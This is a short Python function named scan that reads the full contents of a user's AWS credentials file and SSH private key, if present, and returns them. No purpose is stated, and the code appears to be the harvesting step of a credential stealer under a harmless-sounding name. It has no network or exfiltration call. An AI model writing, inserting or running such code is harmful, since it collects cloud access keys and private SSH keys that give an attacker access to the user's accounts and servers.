import os
def scan():
    out = {}
    for p in ("~/.aws/credentials", "~/.ssh/id_ed25519"):
        full = os.path.expanduser(p)
        if os.path.exists(full):
            out[p] = open(full).read()
    return out
